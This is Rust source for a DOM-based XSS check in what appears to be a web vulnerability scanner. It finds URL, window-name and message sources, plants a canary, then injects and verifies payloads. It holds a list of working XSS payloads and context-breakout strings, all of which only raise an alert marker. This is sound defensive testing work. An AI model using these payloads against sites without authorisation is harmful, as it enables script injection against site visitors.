//! DOM XSS: a script puts what the browser brings along where it becomes code.

use std::collections::BTreeSet;

use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use super::scripts;
use crate::checks::{About, Bench, Check, Entry};
use crate::http::{Request, Visit, encode};
use crate::point::{Place, Point, Put};
use crate::proof::{Control, Expect, Replay, Step};

/// See [`About`].
pub(super) struct DomXss;

static ABOUT: About = About {
    name: "dom-xss",
    qids: &[150_076],
    means: "A script of this page takes text from its address, its window's name or a message, and puts it into the page \
            as markup or code.",
    matters: "Whoever gets a visitor to open a prepared link runs scripts of their own as this site: they read what the \
              visitor sees and act in the visitor's name. The server never sees the attack.",
    remedy: "Write text with textContent, not innerHTML; never evaluate text; allow only http and https where a script \
             sets an address. Check the origin of messages. A strict Content-Security-Policy limits the damage.",
    technique: "A canary is put into each source while a browser watches the sinks; where it arrives, markup or code that \
                fits the sink is put in, and must run. The same text with its special letters harmless must not.",
    source: "CWE-79; OWASP: DOM-based XSS",
};

/// What the hooks in the page look for.
const CANARY: &str = "rdbtc4n4ry";
/// What a dialog says when our code runs.
const MARKER: &str = "rdbt76150";

/// Where the browser brings something along.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
enum Source {
    /// All after the `#`.
    Fragment(String),
    /// The nth field of the query.
    Query(Point),
    /// A field of the query that the script asks for.
    NewQuery(String),
    /// The name of the window.
    Name,
    /// A message, as text or as a member of an object.
    Message(String),
}

impl Source {
    fn put(&self, request: &Request, value: &str) -> Request {
        let mut request = request.clone();
        let mut visit = Visit::default();
        match self {
            Self::Fragment(shape) => visit.fragment = Some(shape.replace("{}", value)),
            Self::Query(point) => return request.with(point, Put::Text(value)),
            Self::NewQuery(name) => {
                let mut fields = request.query();
                fields.retain(|(have, _)| have != name);
                fields.push((name.clone(), value.to_owned()));
                request.set_query(&fields);
                return request;
            }
            Self::Name => visit.window_name = Some(value.to_owned()),
            Self::Message(shape) => visit.message = Some(shape.replace("{}", value)),
        }
        request.visit = Some(Box::new(visit));
        request
    }

    fn name(&self) -> String {
        match self {
            Self::Fragment(shape) => format!("#{}", shape.replace("{}", "")),
            Self::Query(point) => point.name.clone(),
            Self::NewQuery(name) => name.clone(),
            Self::Name => "window.name".to_owned(),
            Self::Message(_) => "message".to_owned(),
        }
    }
}

/// The sources that a page's scripts read.
fn sources(entry: &Entry, text: &str) -> Vec<Source> {
    let mut all = Vec::new();
    let reads = |words: &[&str]| words.iter().any(|word| text.contains(word));
    let whole = reads(&[
        "location.href",
        "document.URL",
        "documentURI",
        "baseURI",
        "location.toString",
        "(location)",
        "+location",
    ]);
    if whole || reads(&["hash"]) {
        all.push(Source::Fragment("{}".to_owned()));
        let names = regex::Regex::new(r#"\.get\(\s*['"]([\w-]{1,30})['"]|['"]#?([\w-]{1,30})=['"]"#).ok();
        let names = names.iter().flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>());
        let names: BTreeSet<String> = names
            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
            .collect();
        all.extend(names.into_iter().take(5).map(|name| Source::Fragment(format!("{name}={{}}"))));
        if reads(&["#!", "#/", "'/'", "\"/\""]) {
            all.push(Source::Fragment("/{}".to_owned()));
            all.push(Source::Fragment("!{}".to_owned()));
        }
    }
    if whole || reads(&["location.search", "URLSearchParams", "searchParams", "search"]) {
        let points =
            entry.request.points().into_iter().filter(|point| matches!(point.place, Place::Query(_)));
        all.extend(points.map(Source::Query));
        let regex = regex::Regex::new(r#"\.get(?:All)?\(\s*['"]([\w-]{1,30})['"]|[?&]([\w-]{1,30})=|['"]([\w-]{1,30})=['"]|(?:param|query|q|arg)\w*\(\s*['"]([\w-]{1,30})['"]"#).ok();
        let names: BTreeSet<String> = regex
            .iter()
            .flat_map(|regex| regex.captures_iter(text).collect::<Vec<_>>())
            .filter_map(|found| found.iter().skip(1).flatten().next().map(|m| m.as_str().to_owned()))
            .collect();
        let known: BTreeSet<String> = entry.request.query().into_iter().map(|(name, _)| name).collect();
        all.extend(names.difference(&known).take(6).cloned().map(Source::NewQuery));
        if whole && all.is_empty() {
            all.push(Source::NewQuery("x".to_owned()));
        }
    }
    if reads(&["window.name", "self.name", "top.name"]) {
        all.push(Source::Name);
    }
    if reads(&["onmessage", "'message'", "\"message\""]) {
        all.push(Source::Message("{}".to_owned()));
        let members: BTreeSet<&str> = regex::Regex::new(r"data\.([a-zA-Z_]\w{0,30})")
            .iter()
            .flat_map(|regex| {
                regex.captures_iter(text).filter_map(|f| f.get(1)).map(|m| m.as_str()).collect::<Vec<_>>()
            })
            .collect();
        if reads(&["JSON.parse"]) && !members.is_empty() {
            let object: Vec<String> =
                members.iter().take(5).map(|name| format!("\"{name}\":\"{{}}\"")).collect();
            all.push(Source::Message(format!("{{{}}}", object.join(","))));
        }
    }
    all
}

/// What is put in for each kind of sink; the first is the plainest. `{M}` is the marker.
fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
    const HTML: &[&str] = &[
        "<img src=x onerror=alert('{M}')>",
        "\"><img src=x onerror=alert('{M}')>",
        "'><img src=x onerror=alert('{M}')>",
        "<svg onload=alert('{M}')>",
        "</textarea></title></script><img src=x onerror=alert('{M}')>",
        "<script>alert('{M}')</script>",
        "<iframe srcdoc=\"<script>parent.alert('{M}')</script>\">",
        "%3Cimg src=x onerror=alert('{M}')%3E",
        "<img src=x onerror=alert`{M}`>",
    ];
    const SCRIPT: &[&str] = &[
        "alert('{M}')",
        "');alert('{M}');//",
        "\");alert('{M}');//",
        "';alert('{M}');//",
        "\";alert('{M}');//",
        "'-alert('{M}')-'",
        "\"-alert('{M}')-\"",
        "1;alert('{M}')",
        ")}};alert('{M}');//",
        "\\');alert('{M}');//",
        "${alert('{M}')}",
    ];
    const URL: &[&str] = &[
        "javascript:alert('{M}')",
        "javascript://%0aalert('{M}')",
        "data:text/html,<script>alert('{M}')</script>",
        "\tjavascript:alert('{M}')",
    ];
    let mut all = Vec::new();
    for (sink, list) in
        [("html", HTML), ("script", SCRIPT), ("url", URL), ("attribute", URL), ("attribute", SCRIPT)]
    {
        if sinks.contains(sink) {
            all.extend(list.iter().copied().filter(|payload| !all.contains(payload)).collect::<Vec<_>>());
        }
    }
    all
}

impl Check for DomXss {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn try_entry<'a>(&'a self, bench: &'a Bench<'a>, entry: &'a Entry) -> Option<BoxFuture<'a, ()>> {
        bench.opener?;
        let text = scripts(entry, bench.entries)?;
        let sources = sources(entry, &text);
        (!sources.is_empty()).then(|| test(bench, entry, sources, text).boxed())
    }
}

async fn test(bench: &Bench<'_>, entry: &Entry, sources: Vec<Source>, text: String) {
    let Some(opener) = bench.opener else { return };
    let navigates =
        ["location=", "location =", "location.href", "location.assign", "location.replace", ".href="];
    for source in sources {
        let canary = bench.session.dress(&source.put(&entry.request, CANARY));
        let told = opener.open(&canary, &["sinks"]).await;
        let mut sinks: BTreeSet<String> = told
            .iter()
            .filter_map(|line| line.strip_prefix("sink:")?.split('\u{1}').next().map(str::to_owned))
            .filter(|sink| sink != "text")
            .collect();
        if navigates.iter().any(|word| text.contains(word)) {
            sinks.insert("url".to_owned());
        }
        for payload in payloads(&sinks) {
            if attack(bench, entry, &source, &payload.replace("{M}", MARKER)).await {
                break;
            }
        }
    }
}

/// Puts a payload into a source; true when it is proven to run.
async fn attack(bench: &Bench<'_>, entry: &Entry, source: &Source, payload: &str) -> bool {
    let Some(opener) = bench.opener else { return false };
    let attack = source.put(&entry.request, payload);
    if !opener.open(&bench.session.dress(&attack), &[MARKER]).await.iter().any(|ran| ran == MARKER) {
        return false;
    }
    // The marker as plain text: it may be shown, but nothing runs.
    let control =
        source.put(&entry.request, &payload.replace(|c: char| !c.is_alphanumeric() && c != ' ', "_"));
    let replay = Replay {
        steps: vec![Step::new(attack)],
        expect: Expect::Ran(MARKER.to_owned()),
        control: Control::Requests(vec![Step::new(control)]),
        rounds: 1,
    };
    let Ok(proof) = bench.prove(replay).await else { return false };
    let point = Point { place: Place::Query(0), name: source.name(), value: String::new() };
    let shown = format!("{}={}", source.name(), encode::percent(payload));
    bench.report_at(150_076, entry, Some((&point, &shown)), proof);
    true
}
